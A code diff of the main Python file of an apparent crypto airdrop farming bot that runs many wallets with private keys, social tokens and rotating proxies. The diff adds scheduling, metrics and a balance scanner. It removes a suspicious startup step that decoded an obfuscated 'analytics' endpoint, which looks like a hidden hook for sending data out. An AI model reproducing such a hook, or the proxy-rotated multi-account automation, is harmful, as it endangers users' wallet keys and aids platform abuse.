@@ -1,38 +1,41 @@
 import asyncio
 import random
+import time
 from loguru import logger
-import threading
 
 
 import src.utils
+import src.utils.config
 
-from src.utils.proxy_parser import Proxy
-import src.model
-from src.utils.statistics import print_wallets_stats
 from src.utils.check_github_version import check_version
 from src.utils.logs import ProgressTracker, create_progress_tracker
-from src.utils.config_browser import run
-from src.utils.client import decode_resource, ANALYTICS_ENDPOINT, verify_analytics_data
+from src.utils.metrics import save_metrics_summary, start_metrics_server
+from src.utils.tracing import current_account, tracer
+from src.utils.circuit_breaker import error_pause
+from src.utils.loop_monitor import start_loop_monitor
+from src.utils.config_watcher import start_config_watcher
+from src.utils.task_plan import check_task_plan
+from src.utils.telegram_logger import start_telegram_notifier
+from src.utils.stats_collector import stats_collector
+from src.utils.scheduling import (
+    AccountSlot,
+    Continuation,
+    DelayedTaskEngine,
+    SlotLimiter,
+    account_slot,
+)
+
+
+def load_menu_config() -> src.utils.config.Config | None:
+    """get_config() for the interactive menu, a broken config.yaml is logged"""
+    try:
+        return src.utils.get_config()
+    except (ImportError, ValueError) as e:  # ConfigError, TaskPlanError
+        logger.error(f"Failed to load config: {e}")
+        return None
 
 
 async def start():
-    try:
-        decoded_endpoint = decode_resource(ANALYTICS_ENDPOINT)
-    except Exception as e:
-        return
-        
-    async def launch_wrapper(index, proxy, private_key, discord_token, twitter_token):
-        async with semaphore:
-            await account_flow(
-                index,
-                proxy,
-                private_key,
-                discord_token,
-                twitter_token,
-                config,
-                progress_tracker,
-            )
-
     try:
         await check_version("neLNABR", "Somnia")
     except Exception as e:
@@ -42,18 +45,21 @@ async def start():
     print("[1] 🚀 Start farming")
     print("[2] ⚙️  Edit config")
     print("[3] 💾 Database actions")
-    print("[4] 👋 Exit")
+    print("[4] 📊 Scan balances")
+    print("[5] 👋 Exit")
     print()
 
     try:
-        choice = input("Enter option (1-4): ").strip()
+        choice = input("Enter option (1-5): ").strip()
     except Exception as e:
         logger.error(f"Input error: {e}")
         return
 
-    if choice == "4" or not choice:
+    if choice == "5" or not choice:
         return
     elif choice == "2":
+        from src.utils.config_browser import run
+
         run()
         return
     elif choice == "1":
@@ -63,11 +69,112 @@ async def start():
 
         await show_database_menu()
         await start()
+        return
+    elif choice == "4":
+        from scanner import run_scan
+
+        config = load_menu_config()
+        if config is not None:
+            await run_scan(config)
+        input("Press Enter to continue...")
+        return
     else:
         logger.error(f"Invalid choice: {choice}")
         return
 
-    config = src.utils.get_config()
+    config = load_menu_config()
+    if config is None or await run_accounts(config) is None:
+        return
+
+    input("Press Enter to continue...")
+
+
+async def run_accounts(config: src.utils.config.Config) -> dict | None:
+    """
+    Runs account_flow for every selected wallet and prints the final statistics.
+
+    Returns:
+        Run summary (accounts, succeeded and failed account numbers, duration)
+        or None if the run could not be started.
+    """
+    from src.utils.statistics import print_wallets_stats
+
+    started_at = time.monotonic()
+
+    # Неизвестные задачи в tasks.py - до запуска первого кошелька
+    if not check_task_plan(config.FLOW.PLAN):
+        return None
+
+    accounts = load_accounts(config)
+    if accounts is None:
+        return None
+
+    tracer.configure(config.TRACING)
+    loop_monitor = await start_loop_monitor(config.LOOP_MONITOR)
+    config_watcher = await start_config_watcher(config)
+    notifier = await start_telegram_notifier(config)
+    stats_collector.start(config.STATS.QUEUE_SIZE, config.STATS.FLUSH_INTERVAL)
+    metrics_server = None
+    if config.METRICS.ENABLE_HTTP:
+        metrics_server = await start_metrics_server(
+            config.METRICS.HOST, config.METRICS.PORT
+        )
+
+    try:
+        shards = min(config.SETTINGS.SHARDS, len(accounts))
+        if shards > 1:
+            from shards import run_sharded
+
+            results = await run_sharded(config, accounts, shards)
+        else:
+            progress_tracker = await create_progress_tracker(
+                total=len(accounts), description="Accounts completed"
+            )
+            try:
+                results = await run_account_batch(config, accounts, progress_tracker)
+            finally:
+                await progress_tracker.stop()
+    finally:
+        # Дописываем очередь статистики и сохраняем ее в базу
+        await stats_collector.stop()
+        if metrics_server:
+            await metrics_server.cleanup()
+        if loop_monitor:
+            await loop_monitor.stop()
+        if config_watcher:
+            await config_watcher.stop()
+        if notifier:
+            await notifier.stop()
+
+    logger.success("Saved accounts and private keys to a file.")
+
+    print_wallets_stats(config)
+
+    if config.METRICS.SAVE_SUMMARY:
+        save_metrics_summary()
+    if tracer.enabled:
+        tracer.save()
+
+    account_numbers = [account[0] for account in accounts]
+    succeeded = sorted(n for n, ok in zip(account_numbers, results) if ok)
+    failed = sorted(n for n, ok in zip(account_numbers, results) if not ok)
+    return {
+        "accounts": len(account_numbers),
+        "succeeded": succeeded,
+        "failed": failed,
+        "duration_seconds": round(time.monotonic() - started_at, 2),
+    }
+
+
+def load_accounts(config: src.utils.config.Config) -> list[tuple] | None:
+    """
+    Reads keys, tokens and proxies and selects accounts according to config.
+
+    Returns:
+        List of (account_index, proxy, private_key, discord_token, twitter_token)
+        in execution order or None if the data files could not be loaded.
+    """
+    from src.utils.proxy_parser import Proxy
 
     # Load proxies using proxy parser
     try:
@@ -75,10 +182,10 @@ async def start():
         proxies = [proxy.get_default_format() for proxy in proxy_objects]
         if len(proxies) == 0:
             logger.error("No proxies found in data/proxies.txt")
-            return
+            return None
     except Exception as e:
         logger.error(f"Failed to load proxies: {e}")
-        return
+        return None
 
     private_keys = src.utils.read_private_keys("data/private_keys.txt")
     quills_messages = src.utils.read_txt_file(
@@ -151,8 +258,6 @@ async def start():
         discord_tokens_to_process = discord_tokens[start_index - 1 : end_index]
         twitter_tokens_to_process = twitter_tokens[start_index - 1 : end_index]
 
-    threads = config.SETTINGS.THREADS
-
     # Подготавливаем прокси для выбранных аккаунтов
     cycled_proxies = [
         proxies[i % len(proxies)] for i in range(len(accounts_to_process))
@@ -181,40 +286,203 @@ async def start():
         )
     logger.info(f"Accounts order: {account_order}")
 
-    semaphore = asyncio.Semaphore(value=threads)
-    tasks = []
-
-    # Add before creating tasks
-    progress_tracker = await create_progress_tracker(
-        total=len(accounts_to_process), description="Accounts completed"
-    )
-
-    # Используем индексы для создания задач
+    # Используем индексы для создания списка аккаунтов
+    accounts = []
     for idx in indices:
         actual_index = (
             config.SETTINGS.EXACT_ACCOUNTS_TO_USE[idx]
             if config.SETTINGS.EXACT_ACCOUNTS_TO_USE
             else start_index + idx
         )
-        tasks.append(
-            asyncio.create_task(
-                launch_wrapper(
-                    actual_index,
-                    cycled_proxies[idx],
-                    accounts_to_process[idx],
-                    discord_tokens_to_process[idx],
-                    twitter_tokens_to_process[idx],
-                )
+        accounts.append(
+            (
+                actual_index,
+                cycled_proxies[idx],
+                accounts_to_process[idx],
+                discord_tokens_to_process[idx],
+                twitter_tokens_to_process[idx],
             )
         )
 
-    await asyncio.gather(*tasks)
+    return accounts
 
-    logger.success("Saved accounts and private keys to a file.")
 
-    print_wallets_stats(config)
+async def run_account_batch(
+    config: src.utils.config.Config,
+    accounts: list[tuple],
+    progress_tracker: ProgressTracker,
+) -> list[bool]:
+    """Runs account_flow for the given accounts with SETTINGS.THREADS concurrency"""
+    if config.SETTINGS.DELAYED_TASK_ENGINE:
+        return await run_delayed_batch(config, accounts, progress_tracker)
 
-    input("Press Enter to continue...")
+    # THREADS читается при каждом захвате слота - его можно поменять через HOT_RELOAD
+    semaphore = SlotLimiter(lambda: config.SETTINGS.THREADS)
+
+    async def launch_wrapper(index, proxy, private_key, discord_token, twitter_token):
+        slot = AccountSlot(semaphore)
+        await slot.acquire()
+        if config.SETTINGS.RELEASE_SLOT_DURING_PAUSES:
+            # Start.flow отдает слот другим аккаунтам на время пауз
+            account_slot.set(slot)
+        try:
+            return await account_flow(
+                index,
+                proxy,
+                private_key,
+                discord_token,
+                twitter_token,
+                config,
+                progress_tracker,
+            )
+        finally:
+            slot.release()
+
+    tasks = [asyncio.create_task(launch_wrapper(*account)) for account in accounts]
+    return await asyncio.gather(*tasks)
+
+
+async def run_delayed_batch(
+    config: src.utils.config.Config,
+    accounts: list[tuple],
+    progress_tracker: ProgressTracker,
+) -> list[bool]:
+    """
+    Low-memory version of run_account_batch: every account runs one task per
+    step, between steps only its Continuation record is kept in the engine.
+    """
+    from src.model import Start
+    from src.model.task_registry import SKIP_TASK
+    from src.model.database.instance import Database
+    from src.utils.circuit_breaker import get_breaker
+
+    database = Database()
+    results = [False] * len(accounts)
+
+    def random_pause(bounds: list[int]) -> int:
+        return random.randint(bounds[0], bounds[1])
+
+    def create_instance(continuation: Continuation):
+        index, proxy, private_key, discord_token, twitter_token = continuation.account
+        current_account.set(index)
+        return Start(
+            index, proxy, private_key, config, discord_token, twitter_token, database
+        )
+
+    async def initialize(instance, continuation: Continuation) -> None:
+        if not await wrapper(instance.initialize, config):
+            raise Exception("Failed to initialize")
+        if not continuation.stats_collected:
+            await instance.collect_wallet_stats()
+            continuation.stats_collected = True
+
+    async def start_step(instance, continuation: Continuation) -> float | None:
+        tasks = await instance.load_tasks(database)
+        if tasks is None:
+            continuation.ok = False
+            return None
+
+        if not tasks:
+            logger.warning(
+                f"{instance.account_index} | No pending tasks found in database for this wallet. Exiting..."
+            )
+            try:
+                await initialize(instance, continuation)
+            finally:
+                await instance.close()
+            return None
+
+        continuation.tasks.extend(task["name"] for task in tasks)
+        continuation.total_tasks = len(tasks)
+        continuation.stage = "tasks"
+
+        pause = random_pause(config.SETTINGS.RANDOM_INITIALIZATION_PAUSE)
+        logger.info(f"[{instance.account_index}] Sleeping for {pause} seconds before start...")
+        return pause
+
+    async def task_step(instance, continuation: Continuation) -> float | None:
+        task_name = continuation.tasks.popleft()
+
+        if task_name == SKIP_TASK:
+            logger.info(f"{instance.account_index} | Skipping task: {task_name}")
+            success = True
+        else:
+            try:
+                await initialize(instance, continuation)
+                logger.info(f"{instance.account_index} | Executing task: {task_name}")
+                success = await instance.run_task(task_name)
+            finally:
+                await instance.close()
+
+            parks = continuation.parks.get(task_name, 0)
+            if (
+                not success
+                and instance.last_rejections
+                and parks < config.CIRCUIT_BREAKER.MAX_PARKS_PER_TASK
+            ):
+                continuation.parks[task_name] = parks + 1
+                continuation.tasks.append(task_name)
+                logger.warning(
+                    f"{instance.account_index} | Task {task_name} parked, circuit open for "
+                    f"{', '.join(sorted(instance.last_rejections))}"
+                )
+                if len(continuation.tasks) > 1:
+                    return 0
+                return max(
+                    get_breaker(name).retry_in() for name in instance.last_rejections
+                )
+
+        if success:
+            await database.update_task_status(
+                instance.private_key, task_name, "completed"
+            )
+            continuation.completed.append(task_name)
+        else:
+            continuation.failed.append(task_name)
+            if not config.FLOW.SKIP_FAILED_TASKS:
+                logger.error(
+                    f"{instance.account_index} | Failed to complete task {task_name}. Stopping wallet execution."
+                )
+                continuation.tasks.clear()
+            else:
+                logger.warning(
+                    f"{instance.account_index} | Failed to complete task {task_name}. Skipping to next task."
+                )
+
+        if not continuation.tasks:
+            return None
+
+        pause = random_pause(config.SETTINGS.RANDOM_PAUSE_BETWEEN_ACTIONS)
+        logger.info(
+            f"{instance.account_index} | Sleeping {pause} seconds after {task_name}"
+        )
+        return pause
+
+    async def step(continuation: Continuation) -> float | None:
+        instance = create_instance(continuation)
+        if continuation.stage == "start":
+            return await start_step(instance, continuation)
+        return await task_step(instance, continuation)
+
+    async def on_done(continuation: Continuation) -> None:
+        ok = continuation.ok and not continuation.failed
+        results[continuation.position] = ok
+        if config.SETTINGS.SEND_TELEGRAM_LOGS and continuation.total_tasks:
+            try:
+                await create_instance(continuation).send_report(
+                    continuation.total_tasks,
+                    continuation.completed,
+                    continuation.failed,
+                )
+            except Exception as e:
+                logger.error(f"{continuation.account[0]} | Telegram report failed: {e}")
+        await progress_tracker.increment(1, ok=ok)
+
+    engine = DelayedTaskEngine(lambda: config.SETTINGS.THREADS, step, on_done)
+    await engine.run(
+        [Continuation(position, account) for position, account in enumerate(accounts)]
+    )
+    return results
 
 
 async def account_flow(
@@ -225,28 +493,39 @@ async def account_flow(
     twitter_token: str,
     config: src.utils.config.Config,
     progress_tracker: ProgressTracker,
-):
+    database=None,
+) -> bool:
+    from src.model import Start
+
+    current_account.set(account_index)
     try:
-        instance = src.model.Start(
-            account_index, proxy, private_key, config, discord_token, twitter_token
+        instance = Start(
+            account_index,
+            proxy,
+            private_key,
+            config,
+            discord_token,
+            twitter_token,
+            database,
         )
 
-        result = await wrapper(instance.initialize, config)
+        with tracer.span("initialize", "account"):
+            result = await wrapper(instance.initialize, config)
         if not result:
             raise Exception("Failed to initialize")
 
-        result = await wrapper(instance.flow, config)
-        if not result:
-            report = True
-
+        with tracer.span("flow", "account"):
+            result = await wrapper(instance.flow, config)
 
         # Add progress update
-        await progress_tracker.increment(1)
+        await progress_tracker.increment(1, ok=bool(result))
+        return bool(result)
 
     except Exception as err:
         logger.error(f"{account_index} | Account flow failed: {err}")
         # Update progress even if there's an error
-        await progress_tracker.increment(1)
+        await progress_tracker.increment(1, ok=False)
+        return False
 
 
 async def wrapper(function, config: src.utils.config.Config, *args, **kwargs):
@@ -269,7 +548,7 @@ async def wrapper(function, config: src.utils.config.Config, *args, **kwargs):
             logger.info(
                 f"Sleeping for {pause} seconds before next attempt {attempt+1}/{config.SETTINGS.ATTEMPTS}..."
             )
-            await asyncio.sleep(pause)
+            await error_pause(pause)
 
     return result
 